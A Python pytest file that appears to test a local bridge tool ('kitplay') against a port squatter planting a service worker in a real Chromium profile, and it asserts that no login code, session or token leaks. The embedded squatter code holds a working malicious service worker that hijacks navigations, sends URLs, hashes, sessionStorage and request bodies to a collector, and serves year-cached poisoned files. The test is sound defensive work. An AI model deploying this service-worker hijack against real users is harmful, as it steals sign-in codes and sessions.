"""The attack of a port squatter with a service worker, in a real Chromium: no session leaves.

Another local user serves the bridge's port while the bridge is down. The user's browser (one
persistent profile, as a desktop browser keeps) loads it there: a stale tab of the playground
reloads, and a bookmark of ``http://127.0.0.1:PORT/`` opens. The squatter's page registers a
service worker on both origins, which would rewrite every later page of those origins and
send what it sees (the login code in the address, the sign-in's request and answer) to the
squatter, and serves its files with a year's cache. Then the real bridge comes back on the
same port and ``kitplay open --browser`` runs.

What shows the attack is live: after the bridge is back, a load of ``http://127.0.0.1:PORT/``
with a code in its address is still the squatter's page, and the code reaches the squatter.
What shows it fails: the page of the new start lives on a new ``kp-<random>.localhost``
origin that the squatter never saw; the user signs in there and the squatter's collector
receives nothing of the code, the session or the master token.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import threading
from pathlib import Path
from typing import Any

import pytest

from tests.bridge_helpers import Bridge, make_bridge_fixture  # noqa: F401
from tests.browser_helpers import needs_chromium, persistent_chromium
from tests.helpers import ROOT, Daemon, wait_for
from tests.local_user import Attacker, attacker_fixture  # noqa: F401

pytestmark = [pytest.mark.browser, needs_chromium]

# The squatter's collector: prints every request it receives, one JSON line each.
COLLECTOR = r"""
import json, sys, threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
class H(BaseHTTPRequestHandler):
    def _log(self):
        n = int(self.headers.get("Content-Length") or 0)
        body = self.rfile.read(n).decode(errors="replace") if n else ""
        print(json.dumps({"method": self.command, "path": self.path, "body": body,
                          "headers": dict(self.headers)}), flush=True)
        self.send_response(204)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.end_headers()
    do_GET = do_POST = do_OPTIONS = _log
    def log_message(self, *a):
        pass
s = ThreadingHTTPServer(("127.0.0.1", 0), H)
print(json.dumps({"port": s.server_address[1]}), flush=True)
threading.Thread(target=s.serve_forever, daemon=True).start()
sys.stdin.read()
"""

# The squatter's server on the bridge's port, 127.0.0.1 and ::1 both: a page that registers
# the service worker, the worker, and any other file with a year's cache.
SQUATTER = r"""
import json, socket, sys, threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
port, collect = int(sys.argv[1]), sys.argv[2]
SW = '''
const COLLECT = "%(collect)s";
const tell = (what) => fetch(COLLECT, {method: "POST", mode: "no-cors",
                                        body: JSON.stringify(what)}).catch(() => {});
self.addEventListener("install", (e) => self.skipWaiting());
self.addEventListener("activate", (e) => e.waitUntil(self.clients.claim()));
self.addEventListener("fetch", (e) => {
  const req = e.request;
  e.respondWith((async () => {
    if (req.mode === "navigate") {  // every page of this origin is the squatter's now
      await tell({sw: "navigate", url: req.url});
      return new Response(`<!doctype html><title>squatted</title><script>
        fetch("${COLLECT}", {method: "POST", mode: "no-cors", body: JSON.stringify(
          {page: location.href, hash: location.hash, storage: JSON.stringify(sessionStorage)})});
        </scr` + `ipt>squatted`, {headers: {"Content-Type": "text/html"}});
    }
    const body = req.method === "POST" ? await req.clone().text() : "";
    const resp = await fetch(req);
    await tell({sw: "fetch", url: req.url, body, answer: await resp.clone().text()});
    return resp;
  })());
});
''' % {"collect": collect}
PAGE = '''<!doctype html><title>cat pictures</title><script>
navigator.serviceWorker.register("/sw.js", {scope: "/"}).then(async () => {
  await navigator.serviceWorker.ready;
  await fetch("%(collect)s", {method: "POST", mode: "no-cors",
                              body: JSON.stringify({registered: location.origin})});
  document.title = "registered";
});
</script>''' % {"collect": collect}
class H(BaseHTTPRequestHandler):
    def do_GET(self):
        print(json.dumps({"host": self.headers.get("Host"), "path": self.path}), flush=True)
        kind, body = ("text/javascript", SW) if self.path.startswith("/sw.js") else \
            ("text/javascript", "/* poisoned */") if self.path.startswith("/static/") else \
            ("text/html", PAGE)
        data = body.encode()
        self.send_response(200)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(data)))
        if not self.path.startswith("/sw.js"):
            self.send_header("Cache-Control", "public, max-age=31536000, immutable")
        self.end_headers()
        self.wfile.write(data)
    def log_message(self, *a):
        pass
class V6(ThreadingHTTPServer):
    address_family = socket.AF_INET6
servers = [ThreadingHTTPServer(("127.0.0.1", port), H), V6(("::1", port), H)]
for s in servers:
    threading.Thread(target=s.serve_forever, daemon=True).start()
print(json.dumps({"serving": port}), flush=True)
sys.stdin.read()
"""

# $BROWSER: hands the file it was given to the test's persistent Chromium (through a file).
BROWSER = r"""
import pathlib, sys
pathlib.Path(sys.argv[1]).write_text(sys.argv[2])
"""


class Process:
    """One of the other user's processes; its JSON stdout lines collected in a thread."""

    def __init__(self, attacker: Attacker, code: str, *args: str) -> None:
        self.proc = attacker.popen("/usr/bin/python3", "-c", code, *args,
                                   stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                                   stderr=subprocess.PIPE)
        self.lines: list[dict[str, Any]] = []
        self.thread = threading.Thread(target=self._read, daemon=True)
        self.thread.start()
        wait_for(lambda: self.lines or self.proc.poll() is not None, 30, "the process to start")
        assert self.lines, self.proc.stderr.read() if self.proc.stderr else ""

    def _read(self) -> None:
        assert self.proc.stdout is not None
        for line in self.proc.stdout:
            self.lines.append(json.loads(line))

    def text(self) -> str:
        return "\n".join(json.dumps(x) for x in self.lines)

    def stop(self) -> None:
        if self.proc.stdin is not None:
            self.proc.stdin.close()
        try:
            self.proc.wait(10)
        except subprocess.TimeoutExpired:
            self.proc.kill()
            self.proc.wait()
        self.thread.join(10)
        for stream in (self.proc.stdout, self.proc.stderr):
            if stream is not None:
                stream.close()


def test_a_service_worker_planted_by_a_port_squatter_gets_no_session(
        make_bridge: Any, daemon: Daemon, attacker: Attacker, tmp_path: Path) -> None:
    from playwright.sync_api import expect

    collector = Process(attacker, COLLECTOR)
    collect = f"http://127.0.0.1:{collector.lines[0]['port']}/collect"
    squatter: Process | None = None
    try:
        with persistent_chromium(tmp_path / "profile") as browser:
            first = make_bridge(daemon)
            port, old_page = first.port, first.page_url
            tab = browser.new_page()
            tab.goto(first.login_url)
            expect(tab.locator("#daemon")).to_contain_text("kitplayd")

            # The bridge stops; the other user takes its port, on both loopback addresses.
            first.stop()
            squatter = Process(attacker, SQUATTER, str(port), collect)
            tab.reload()  # the stale tab: its old kp-... name goes to the squatter now
            expect(tab).to_have_title("registered")
            bookmark = browser.new_page()
            bookmark.goto(f"http://127.0.0.1:{port}/")
            expect(bookmark).to_have_title("registered")
            wait_for(lambda: {old_page, f"http://127.0.0.1:{port}"} <= _registered(collector),
                     30, "the worker registered on both old origins")
            bookmark.goto(f"http://127.0.0.1:{port}/static/app.js")  # cached for a year
            squatter.stop()
            squatter = None

            # The real bridge comes back on the same port.
            second = make_bridge(daemon, bind=f"127.0.0.1:{port}")
            assert second.port == port and second.page_url not in (old_page,)
            # The attack is live: on the old origins, the squatter's worker answers still,
            # and a code in the address would be the squatter's.
            bookmark.goto(f"http://127.0.0.1:{port}/#code=decoy-code-0001")
            expect(bookmark).to_have_title("squatted")
            wait_for(lambda: "decoy-code-0001" in collector.text(), 30,
                     "the decoy code at the collector")
            bookmark.close()
            tab.close()

            # kitplay open --browser: the browser gets the redirect file.
            handed = tmp_path / "handed"
            script = tmp_path / "browser.py"
            script.write_text(BROWSER)
            env = {**os.environ, "PYTHONPATH": str(ROOT),
                   "BROWSER": f"{sys.executable} {script} {handed} %s"}
            env.pop("DISPLAY", None)
            r = subprocess.run([sys.executable, "-m", "kitplay.cli_client", "--socket",
                                str(daemon.socket), "open", "--browser"], env=env,
                               capture_output=True, text=True, timeout=60)
            assert r.returncode == 0, r.stderr
            redirect = Path(handed.read_text().removeprefix("file://"))
            code = redirect.read_text().partition("#code=")[2].partition('"')[0]
            assert code, redirect.read_text()
            page = browser.new_page()
            page.goto(handed.read_text())
            expect(page.locator("#daemon")).to_contain_text("kitplayd")  # signed in
            assert page.url == f"{second.page_url}/"  # Chromium resolved kp-....localhost
            assert page.evaluate("navigator.serviceWorker.controller") is None
            session = page.evaluate("sessionStorage.getItem('kitplay.session')")
            assert session and second.get("/api/v1/jobs", headers={
                "Authorization": f"Bearer {session}"}).status_code == 200
            # The new origin's files are the bridge's, not the year-cached poisoned ones.
            assert "poisoned" not in page.evaluate(
                "fetch('/static/app.js').then(r => r.text())")
    finally:
        if squatter is not None:
            squatter.stop()
        collector.stop()
    leaked = collector.text()
    for secret in (code, session, second.token):
        assert secret not in leaked, "a secret reached the squatter's collector"
    assert second.page_url.removeprefix("http://") not in leaked


def _registered(collector: Process) -> set[str]:
    out = set()
    for x in list(collector.lines):
        try:
            out.add(json.loads(x.get("body") or "{}").get("registered"))
        except ValueError:
            pass
    return out
